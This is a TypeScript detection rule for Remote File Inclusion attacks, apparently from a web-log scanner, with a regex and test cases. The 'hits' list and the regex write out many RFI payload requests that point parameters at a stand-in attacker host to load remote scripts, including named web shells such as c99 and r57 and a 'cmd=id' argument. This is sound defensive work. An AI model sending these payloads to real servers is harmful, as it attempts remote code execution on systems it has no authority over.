import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'rfi/remote-script',
  title: 'Remote script as a parameter (RFI)',
  why: 'The value is the address of a script or text file on another server, often with a trailing ?; an include would run it.',
  ja: {
    title: '外部スクリプトの読み込み（RFI）',
    why: '値が他のサーバー上のスクリプトやテキストファイルのアドレスです（末尾に「?」が付くことも多い）。インクルードされると実行されます。',
  },
  severity: 'high',
  stage: 'inject',
  attack: ['T1105', 'T1190'],
  cwe: [98],
  refs: [
    'https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/11.2-Testing_for_Remote_File_Inclusion',
    'https://cwe.mitre.org/data/definitions/98.html',
  ],

  where: ['arg'],
  needs: [['=http://', '=https://', '=ftp://', '=ftps://', '= http', '=http:\\']],
  match:
    /=\s?(?:https?|ftps?):[/\\]{2}[^\s"<>]{3,300}(?:\.(?:txt|php\d?|inc|gif|jpe?g|png|dat|log|pl|cgi|sh|py|bmp)\?{1,3}(?:$|cmd=|&)|\?{2}$)|=\s?(?:https?|ftps?):\/\/[^\s"<>?]{3,300}[/_.-](?:(?:c99|r57|cmd|exec|backdoor|bypass|safe\d?|idx?|echo|fx29\w{0,10}|byroe|response|copyright|shell)\.?(?:txt|php\d?|sh)|(?:c99|r57|cmd|byroe|fx29\w{0,10})\.(?:gif|jpe?g))\b|=\s?(?:https?|ftps?):\/\/[^\s"<>?]{3,300}\.sh(?:$|[?#])/i,

  hits: [
    'GET /index.php?page=http://evil.example/x.txt? HTTP/1.1',
    'GET /a.php?dir=ftp://evil.example/shell.gif?cmd=id HTTP/1.1',
    'GET /a.php?x=http%3A%2F%2Fevil.example%2Fa%3F%3F HTTP/1.1',
    'GET /a.php?conf=http://evil.example/c99.txt HTTP/1.1',
    ...each(
      'GET /index.php?page=http://evil.example/x.{}? HTTP/1.1',
      'php inc jpg png dat log pl cgi py bmp',
    ),
    'GET /index.php?page=http://evil.example/x.txt?%26 HTTP/1.1',
    'GET /a.php?conf=ftp://evil.example/c99.txt HTTP/1.1',
    'GET /a.php?conf=http://evil.example/c99.gif HTTP/1.1',
    ...each(
      'GET /a.php?conf=http://evil.example/{}.txt HTTP/1.1',
      'r57 cmd exec backdoor bypass safe id echo fx29 byroe response copyright shell',
    ),
    'GET /a.php?conf=http://evil.example/c99.php HTTP/1.1',
    ...each('GET /a.php?conf=http://evil.example/{}.gif HTTP/1.1', 'r57 cmd byroe fx29'),
    'GET /a.php?conf=http://evil.example/c99.jpg HTTP/1.1',
    'GET /a.php?x=http://203.0.113.9/a.sh HTTP/1.1',
    'GET /a.php?x=ftp://203.0.113.9/a.sh HTTP/1.1',
    'GET /index.php?page=https://evil.example/x.txt? HTTP/1.1',
    'GET /index.php?page=ftps://evil.example/x.txt? HTTP/1.1',
    'GET /a.php?page=+http://203.0.113.9/c99.txt HTTP/1.1',
    'GET /a.php?page=http:\\\\203.0.113.9\\a.txt? HTTP/1.1',
    'GET /a.php?page=http:\\\\203.0.113.9\\a.sh? HTTP/1.1',
  ],
  misses: [
    'GET /go?url=http://example.org/index.php HTTP/1.1',
    'GET /go?url=http://example.org/view.php?id=4 HTTP/1.1',
    'GET /thumb?src=http://example.org/cat.jpg HTTP/1.1',
    'GET /thumb?src=http://example.org/img/android.jpg HTTP/1.1',
    'GET /go?url=http://example.org/seashell.php HTTP/1.1',
    {
      request: 'GET /style.css HTTP/1.1',
      referrer: 'https://www.example.com/index.php?page=http://evil.example/x.txt?',
    },
    'GET /a.php?conf=http://evil.example/c99.txts HTTP/1.1',
    'GET /a.php?x=http://203.0.113.9/a.shs HTTP/1.1',
  ],
})
